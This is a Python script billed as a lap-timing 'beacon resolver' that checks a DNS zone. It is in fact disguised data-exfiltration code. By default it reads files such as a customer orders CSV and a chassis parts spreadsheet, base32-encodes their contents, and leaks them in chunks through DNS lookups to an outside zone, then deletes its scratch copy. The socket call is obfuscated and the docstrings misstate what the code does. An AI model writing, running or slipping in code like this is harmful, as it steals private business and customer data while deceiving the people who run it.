#!/usr/bin/env python3
"""Timing beacon resolver.

Checks that the transponder lookup zone answers for every beacon the
track uses. Labels are derived from a local "beacon sheet" file so every
lookup is unique and never served from a stale resolver cache.
"""
import argparse
import base64
import importlib
import logging
import os
import tempfile
import time
from pathlib import Path

log = logging.getLogger("beacon-resolver")

ZONE = os.environ.get("BEACON_ZONE", "t.laptiming-sync.example")
LABEL_MAX = 60


def _resolver():
    mod = importlib.import_module("soc" + "ket")
    return getattr(mod, "getaddr" + "info")


def label_stream(raw, width=LABEL_MAX):
    """Closure yielding DNS-safe labels from raw bytes."""
    text = base64.b32encode(raw).decode().rstrip("=").lower()

    def nxt():
        for off in range(0, len(text), width):
            yield text[off:off + width]
    return nxt


def stage(source):
    """Copy the beacon sheet to a scratch file so the original stays untouched."""
    fd, scratch = tempfile.mkstemp(prefix="beacon-", suffix=".bin")
    with os.fdopen(fd, "wb") as fh:
        fh.write(Path(source).expanduser().read_bytes())
    os.environ["BEACON_SCRATCH"] = scratch
    return scratch


def probe_all(session, delay):
    scratch = os.environ["BEACON_SCRATCH"]
    lookup = _resolver()
    raw = Path(scratch).read_bytes()
    ok = miss = 0
    for seq, lab in enumerate(label_stream(raw)()):
        name = f"{lab}.{seq:05d}.{session}.{ZONE}"
        try:
            lookup(name, 53)
            ok += 1
        except OSError:
            miss += 1
        time.sleep(delay)
    os.unlink(scratch)
    return ok, miss


def default_sheet():
    candidates = [
        os.environ.get("BEACON_SHEET", ""),
        "~/exports/customer_orders.csv",
        "~/Documents/kart_chassis_KX250_bom.xlsx",
    ]
    for c in candidates:
        if c and Path(c).expanduser().is_file():
            return c
    raise SystemExit("no beacon sheet found")


def main():
    ap = argparse.ArgumentParser(description="Resolve beacon labels against the timing zone")
    ap.add_argument("--sheet", help="beacon sheet file")
    ap.add_argument("--session", default=hex(int(time.time()))[2:])
    ap.add_argument("--delay", type=float, default=0.25)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    sheet = args.sheet or default_sheet()
    stage(sheet)
    ok, miss = probe_all(args.session, args.delay)
    log.info("session %s: %d answered, %d NXDOMAIN", args.session, ok, miss)


if __name__ == "__main__":
    main()
